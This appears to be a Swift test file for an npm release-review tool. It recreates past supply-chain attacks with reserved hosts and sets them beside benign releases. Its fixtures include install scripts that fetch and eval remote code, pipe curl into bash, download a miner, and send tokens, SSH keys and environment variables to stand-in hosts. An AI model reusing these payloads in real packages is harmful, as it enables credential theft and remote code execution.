// SPDX-License-Identifier: Apache-2.0

import Analysis
import NPMModel
import Testing

/// A release of a known incident or of a look-alike, inert: reserved hosts, nothing that works.
struct Incident: CustomTestStringConvertible, Sendable {
    var name: String
    var release: ReleaseUnderReview

    var testDescription: String { name }

    init(_ name: String, _ release: ReleaseUnderReview) {
        self.name = name
        self.release = release
    }

    // MARK: event-stream and flatmap-stream, 2018

    static func eventStream(after335: Bool) -> ReleaseUnderReview {
        var history = (0..<40).map { number in
            PastRelease.sample(
                "3.\(number / 10).\(number % 10)", "201\(2 + number / 10)-0\(1 + number % 9)-10T10:00:00Z", by: "dominictarr",
                maintainers: ["dominictarr"]
            ) {
                $0.dependencies = ["through": "~2.3.1", "duplexer": "~0.1.1", "from": "~0", "map-stream": "~0.1.0"]
            }
        }
        history.append(
            .sample("3.3.4", "2016-07-16T10:00:00Z", by: "dominictarr", maintainers: ["dominictarr"]) {
                $0.dependencies = ["through": "~2.3.1", "duplexer": "~0.1.1", "from": "~0", "map-stream": "~0.1.0"]
            })
        if after335 {
            history.append(
                .sample("3.3.5", "2018-09-05T02:00:00Z", by: "right9ctrl", maintainers: ["dominictarr", "right9ctrl"]) {
                    $0.dependencies = ["through": "~2.3.1", "duplexer": "~0.1.1", "from": "~0", "map-stream": "~0.1.0"]
                })
        }
        return .sampleEvent(
            version: "3.3.6", by: "right9ctrl", at: "2018-09-09T08:00:00Z",
            manifest: .sample(dependencies: ["through": "^2.3.1", "duplexer": "^0.1.1", "flatmap-stream": "^0.1.0"]), after: history,
            maintainers: ["dominictarr", "right9ctrl"]
        ) {
            $0.newDependencies["flatmap-stream"] = DependencyBackground(
                name: "flatmap-stream", created: Timestamp("2018-08-05T00:00:00Z"), releaseCount: 1, maintainers: ["hugeglass"],
                knownDependents: 0)
        }
    }

    static func flatmapStream(disguised: Bool) -> ReleaseUnderReview {
        let honest = "module.exports = function (mapper) { return through(function write(data) { this.queue(mapper(data)) }) }\n"
        let plain =
            "var r=process,t=r.env,d=require('./test/data'),c=require('crypto').createDecipher('aes256',t.npm_package_description),s=c.update(d[0],'hex','utf8');s+=c.final('utf8');var m=new module.constructor;m.paths=module.paths;m._compile(s,'')"
        let hidden =
            "var r=process,t=r.env;function e(r){return Buffer.from(r,'hex').toString()}var n=require(e('2e2f746573742f64617461')),u=t[e('6e706d5f7061636b6167655f6465736372697074696f6e')];if(!u)return;var f=require(e('63727970746f'))[e('637265617465446563697068657200')](e('616573323536'),u),a=f.update(n[0],'hex','utf8');a+=f.final('utf8');var i=new module.constructor;i.paths=module.paths,i[e('5f636f6d70696c65')](a,'')"
            .replacing("637265617465446563697068657200", with: "6372656174654465636970686572")
        let manifest = #"{"name":"flatmap-stream","version":"0.1.1","main":"index.min.js","dependencies":{}}"#
        var release = ReleaseUnderReview.sample(
            [
                "package.json": manifest, "index.js": honest,
                "index.min.js":
                    "module.exports=function(r){return through(function(t){this.queue(r(t))})};!function(){try{\(disguised ? hidden : plain)}catch(r){}}();",
                "test/data.js": "module.exports=[\"\(hexText(2400))\",\"\(hexText(1600))\"];",
            ], version: "0.1.1",
            previous: [
                "package.json": manifest.replacing("0.1.1", with: "0.1.0"), "index.js": honest,
                "index.min.js": "module.exports=function(r){}",
            ])
        var history = PackageHistory(name: "flatmap-stream")
        history.releases = [.sample("0.1.0", "2018-08-05T00:00:00Z", by: "hugeglass", maintainers: ["hugeglass"])]
        release.history = history
        var published = PublishedVersion(version: "0.1.1", manifest: release.shipped ?? .sample())
        published.publishedAt = Timestamp("2018-10-05T00:00:00Z")
        published.publisher = Person(name: "hugeglass")
        published.maintainers = [Person(name: "hugeglass")]
        release.published = published
        return release
    }

    /// Digits that look encrypted and are a counter.
    static func hexText(_ count: Int) -> String {
        let digits = Array("0123456789abcdef")
        var state: UInt32 = 20_181_005
        return String(
            (0..<count).map { _ in
                state = state &* 1_103_515_245 &+ 12_345
                return digits[Int(state >> 16) % 16]
            })
    }

    // MARK: Install-time attacks on packages that people used

    /// A release of a package with a year of ordinary releases, one hour after others where wanted.
    static func takenOver(_ files: [String: String], version: String = "1.4.0", after more: [PastRelease] = []) -> ReleaseUnderReview {
        let before = files.filter { !$0.key.hasSuffix(".sh") && !$0.key.hasSuffix(".bat") }
            .mapValues { _ in "module.exports = 1" }
            .merging(["package.json": #"{"name":"sample","version":"1.3.1"}"#]) { $1 }
            .filter { $0.key == "package.json" || $0.key == "index.js" }
        var release = ReleaseUnderReview.sample(files, version: version, previous: before)
        var history = PackageHistory(name: "sample")
        history.releases = PastRelease.ordinaryYear + more
        release.history = history
        var published = PublishedVersion(version: version, manifest: release.shipped ?? .sample())
        published.publishedAt = Timestamp("2021-06-01T12:00:00Z")
        published.publisher = Person(name: "ann")
        published.maintainers = [Person(name: "ann")]
        release.published = published
        return release
    }

    static func script(_ script: String, _ command: String, version: String = "1.4.0") -> String {
        #"{"name":"sample","version":"\#(version)","scripts":{"\#(script)":"\#(command)"}}"#
    }

    static let shellFiles = [
        "index.js": "module.exports = 1",
        "preinstall.js":
            "const { exec, spawn } = require('child_process'); const os = process.platform; if (os === 'win32') { spawn('cmd.exe', ['/c', 'preinstall.bat'], {detached: true}) } else if (os === 'linux') { exec('/bin/bash preinstall.sh') }",
        "preinstall.sh":
            "IP=$(curl -k https://geo.example/xml/ | grep 'RU\\|UA')\nif [ -z \"$IP\" ]; then\ncurl http://files.test/download/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls --rig-id q -o pool.test:443 -B\nfi\n",
        "preinstall.bat": "@echo off\ncurl http://files.test/download/jsextension.exe -o jsextension.exe\nstart jsextension.exe\n",
    ]

    static let atInstall: [Incident] = [
        Incident(
            "eslint-scope 3.7.2: fetch and evaluate",
            takenOver([
                "package.json": script("postinstall", "node ./lib/build.js"), "index.js": "module.exports = 1",
                "lib/build.js":
                    "try{var https=require('https');https.get({'hostname':'paste.example',path:'/raw/XLeVP82h',headers:{'User-Agent':'Mozilla/5.0'}},(r)=>{r.setEncoding('utf8');r.on('data',(c)=>{eval(c);});r.on('error',()=>{});}).on('error',()=>{});}catch(e){}",
            ])),
        Incident(
            "ua-parser-js: shell and batch file that fetch a program, first line",
            takenOver(shellFiles.merging(["package.json": script("preinstall", "start /B node preinstall.js & node preinstall.js")]) { $1 })
        ),
        Incident(
            "ua-parser-js: the third line within the hour",
            takenOver(
                shellFiles.merging([
                    "package.json": script("preinstall", "start /B node preinstall.js & node preinstall.js", version: "2.0.0")
                ]) { $1 },
                version: "2.0.0", after: [.sample("0.8.0", "2021-06-01T11:30:00Z"), .sample("1.4.0", "2021-06-01T11:45:00Z")])),
        Incident(
            "nx: keys, wallets and start-up files",
            takenOver([
                "package.json": script("postinstall", "node telemetry.js"), "index.js": "module.exports = 1",
                "telemetry.js":
                    "const https=require('https'),fs=require('fs'),os=require('os'),{spawnSync}=require('child_process');const found=['.npmrc','.ssh/id_rsa','keystore','wallet'].map(n=>read(os.homedir()+'/'+n));const t=spawnSync('gh',['auth','token']);fs.appendFileSync(os.homedir()+'/.bashrc','echo off');fs.appendFileSync(os.homedir()+'/.zshrc','echo off');https.request({hostname:'api.example',method:'POST'}).end(Buffer.from(Buffer.from(JSON.stringify(found)).toString('base64')).toString('base64'));",
            ])),
        Incident(
            "first worm of 2025: a bundle that steals and publishes",
            takenOver([
                "package.json": script("postinstall", "node bundle.js"), "index.js": "module.exports = 1",
                "bundle.js": String(repeating: "exports.n=(exports.n||0)+1;function padding(a,b){return a+b}\n", count: 50_000)
                    + "const https=require('https');const t=read('.npmrc')._authToken,a=process.env.AWS_SECRET_ACCESS_KEY,g=process.env.GITHUB_TOKEN;for(const p of mine)execSync('npm publish');write('.github/workflows/x.yml');https.request({host:'collect.test'}).end(t+a+g);",
            ])),
        Incident(
            "second worm of 2025: fetches another runtime and starts a large file",
            takenOver([
                "package.json": script("preinstall", "node setup_bun.js"), "index.js": "module.exports = 1",
                "setup_bun.js":
                    "const {execSync,spawn}=require('child_process');execSync('curl -fsSL https://runtime.example/install | bash');spawn('bun',['bun_environment.js'],{detached:true,stdio:'ignore'}).unref();",
                "bun_environment.js": String(repeating: "var _0x1a2b3c=_0x4d5e6f(0x1);\n", count: 100_000),
            ])),
    ]

    // MARK: Packages made to attack

    static func made(_ name: String, _ version: String, _ script: String, _ files: [String: String]) -> ReleaseUnderReview {
        var files = files
        files["package.json"] = #"{"name":"\#(name)","version":"\#(version)","scripts":{\#(script)}}"#
        var release = ReleaseUnderReview.sample(files, version: version)
        release.history = PackageHistory(name: name)
        var published = PublishedVersion(version: version, manifest: release.shipped ?? .sample())
        published.publishedAt = Timestamp("2021-06-01T12:00:00Z")
        published.publisher = Person(name: "mallory")
        published.maintainers = [Person(name: "mallory")]
        release.published = published
        return release
    }

    static let firstReleases: [Incident] = [
        Incident(
            "crossenv: sends the environment",
            made(
                "crossenv", "6.1.1", #""postinstall":"node package-setup.js""#,
                [
                    "package-setup.js":
                        "const http=require('http'),querystring=require('querystring');const host='collect.test';const env=JSON.stringify(process.env);const data=Buffer.from(env).toString('base64');const post=querystring.stringify({data});http.request({hostname:host,port:80,path:'/log/',method:'POST'}).end(post);"
                ])),
        Incident(
            "dependency confusion: reports the machine by DNS",
            made(
                "acme-internal-auth", "9000.0.0", #""preinstall":"node index.js""#,
                [
                    "index.js":
                        "const os=require('os'),dns=require('dns');const t=Buffer.from([os.hostname(),os.userInfo().username,process.cwd()].join('|')).toString('hex');t.match(/.{1,60}/g).forEach(p=>dns.lookup(p+'.x.oast.test',()=>{}));"
                ])),
        Incident(
            "bb-builder: starts a Windows program",
            {
                var release = made(
                    "bb-like", "1.0.0", #""postinstall":"node run.js""#,
                    ["run.js": "require('child_process').spawn('./lib/helper.exe',{detached:true})"])
                var head = [UInt8](repeating: 0, count: 256)
                (head[0], head[1], head[60], head[64], head[65]) = (0x4D, 0x5A, 64, 0x50, 0x45)
                release.content = .sample(
                    Dictionary(uniqueKeysWithValues: release.content.files.map { ($0.path, String(decoding: $0.bytes, as: UTF8.self)) }),
                    bytes: ["lib/helper.exe": head])
                return release
            }()),
    ]

    // MARK: Ordinary

    static let ordinary: [Incident] = [
        Incident(
            "semver 6.3.1: a back-port on an old line by a known person",
            .sampleEvent(
                version: "1.2.1", at: "2023-07-10T00:00:00Z",
                after: PastRelease.ordinaryYear + [
                    .sample("2.0.0", "2022-01-01T00:00:00Z") { $0.provenance = "https://slsa.dev/provenance/v1" },
                    .sample("2.0.1", "2023-07-07T00:00:00Z") { $0.provenance = "https://slsa.dev/provenance/v1" },
                ])),
        Incident(
            "a new maintainer whose first release changes documentation",
            {
                var release = takenOver([
                    "package.json": #"{"name":"sample","version":"1.4.0"}"#, "index.js": "module.exports = 1", "README.md": "New words.",
                ])
                release.published?.publisher = Person(name: "bob")
                release.published?.maintainers = [Person(name: "ann"), Person(name: "bob")]
                release.published?.publishedAt = Timestamp("2023-06-01T12:00:00Z")
                return release
            }()),
        Incident(
            "an add-on that downloads its own prebuilt binary",
            made(
                "native-thing", "1.0.0", #""install":"node install.js""#,
                [
                    "install.js":
                        "const https=require('https'),fs=require('fs'),{spawnSync}=require('child_process');const base=process.env.npm_config_native_thing_host||'https://github.com/acme/native-thing/releases/download';const to='bin/thing';https.get(base+'/v1.0.0/thing-'+process.platform+'-'+process.arch,r=>{r.pipe(fs.createWriteStream(to)).on('close',()=>{fs.chmodSync(to,0o755);spawnSync(to,['--version'])})});"
                ])),
        Incident(
            "the same, in the first release with an install script of an older package",
            takenOver([
                "package.json": script("install", "node install.js"), "index.js": "module.exports = 1",
                "install.js":
                    "const https=require('https'),fs=require('fs');const base='https://github.com/acme/native-thing/releases/download';https.get(base+'/v1.4.0/thing',r=>{r.pipe(fs.createWriteStream('bin/thing')).on('close',()=>fs.chmodSync('bin/thing',0o755))});",
            ])),
        Incident(
            "a rewrite to TypeScript with a new build",
            takenOver(
                [
                    "package.json":
                        #"{"name":"sample","version":"2.0.0","main":"dist/index.js","types":"dist/index.d.ts","scripts":{"build":"tsc","prepublishOnly":"npm run build"}}"#,
                    "dist/index.js": "\"use strict\";\nObject.defineProperty(exports, '__esModule', { value: true });\nexports.one = 1;\n",
                    "dist/index.d.ts": "export declare const one = 1;\n",
                    "dist/index.js.map": #"{"version":3,"mappings":"AAAA,OAAO"}"#,
                ], version: "2.0.0")),
        Incident(
            "a bundler that uses new Function",
            takenOver([
                "package.json": #"{"name":"sample","version":"1.4.0"}"#,
                "index.js": "module.exports = src => new Function('require', src)(require)",
            ])),
        Incident(
            "a command-line tool that starts git",
            takenOver([
                "package.json": #"{"name":"sample","version":"1.4.0","bin":{"sample":"cli.js"}}"#, "index.js": "1",
                "cli.js": "#!/usr/bin/env node\nrequire('child_process').execFileSync('git',['status'],{env:process.env})",
            ])),
        Incident(
            "an analytics library that sends what it says it sends",
            takenOver([
                "package.json": #"{"name":"sample","version":"1.4.0"}"#,
                "index.js":
                    "export const track = e => navigator.sendBeacon('https://stats.example/e', JSON.stringify(e)); export const id = () => fetch('https://stats.example/id')",
            ])),
        Incident(
            "a build tool whose install step loads its library, which can publish and reads .npmrc",
            takenOver([
                "package.json": script("postinstall", "node ./bin/post-install"), "index.js": "module.exports = 1",
                "bin/post-install.js":
                    "const { daemon } = require('../src/daemon'); const { graph } = require('../src/graph'); const pm = require('../src/package-manager'); graph();",
                "src/daemon.js":
                    "const net = require('net'); const { spawn } = require('child_process'); exports.daemon = () => spawn('node', ['x'], { detached: true });",
                "src/graph.js": "exports.graph = () => require('./plugins');", "src/plugins.js": "require('./release'); require('./ci')",
                "src/package-manager.js":
                    "exports.copy = d => fs.copyFileSync('.npmrc', d); exports.publish = r => `npm publish ${r} --json`;",
                "src/release.js": "const axios = require('axios'); const t = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;",
                "src/ci.js": "writeFileSync('.github/workflows/ci.yml', text)",
            ])),
        Incident(
            "a message at install, by a program in the command line",
            takenOver([
                "package.json": script("postinstall", "node -e \\\"try{require('./postinstall')}catch(e){}\\\""), "index.js": "1",
                "postinstall.js":
                    "var env = process.env; var ci = ['CI', 'BUILD_NUMBER'].some(function (k) { return !!env[k] }); var fs = require('fs'), os = require('os'); if (!ci) { fs.writeFileSync(os.tmpdir() + '/banner', '1'); console.log('Thank you') }",
            ])),
        Incident(
            "a compiler that fetches its platform's binary by npm and falls back to the registry",
            made(
                "fast-compiler", "0.1.0", #""postinstall":"node install.js""#,
                [
                    "install.js":
                        "const fs=require('fs'),os=require('os'),path=require('path'),zlib=require('zlib'),https=require('https'),child_process=require('child_process');function fetchUrl(u){return new Promise((a,b)=>{https.get(u,r=>{if(r.statusCode!==200)return b();let c=[];r.on('data',x=>c.push(x));r.on('end',()=>a(Buffer.concat(c)))})})}function viaNpm(pkg){const env={...process.env,npm_config_global:undefined};fs.writeFileSync('package.json','{}');child_process.execSync(`npm install --loglevel=error ${pkg}`,{env})}async function direct(pkg,to){const tgz=zlib.unzipSync(await fetchUrl(`https://registry.npmjs.org/${pkg}/-/x.tgz`));fs.writeFileSync(to,tgz);fs.chmodSync(to,0o755)}child_process.execFileSync('bin/x',['--version']);"
                ])),
        Incident(
            "git hooks set up at install",
            takenOver([
                "package.json": script("install", "node husky install"), "index.js": "1",
                "husky.js":
                    "const cp=require('child_process');cp.spawnSync('git',['rev-parse','--git-path','hooks']);fs.writeFileSync('.git/hooks/pre-commit','#!/bin/sh');fs.chmodSync('.git/hooks/pre-commit',0o755)",
            ])),
        Incident(
            "is-promise 2.2.0: a wrong exports map",
            takenOver([
                "package.json": #"{"name":"sample","version":"1.4.0","exports":{"import":"index.mjs"}}"#, "index.js": "1",
                "index.mjs": "export default 1",
            ])),
        Incident(
            "a package that builds with node-gyp from now on",
            takenOver([
                "package.json": #"{"name":"sample","version":"1.4.0"}"#, "index.js": "1",
                "binding.gyp":
                    #"{"targets":[{"target_name":"a","sources":["a.cc"],"include_dirs":["<!(node -p \"require('node-addon-api').include\")"]}]}"#,
                "a.cc": "int a;",
            ])),
    ]
}
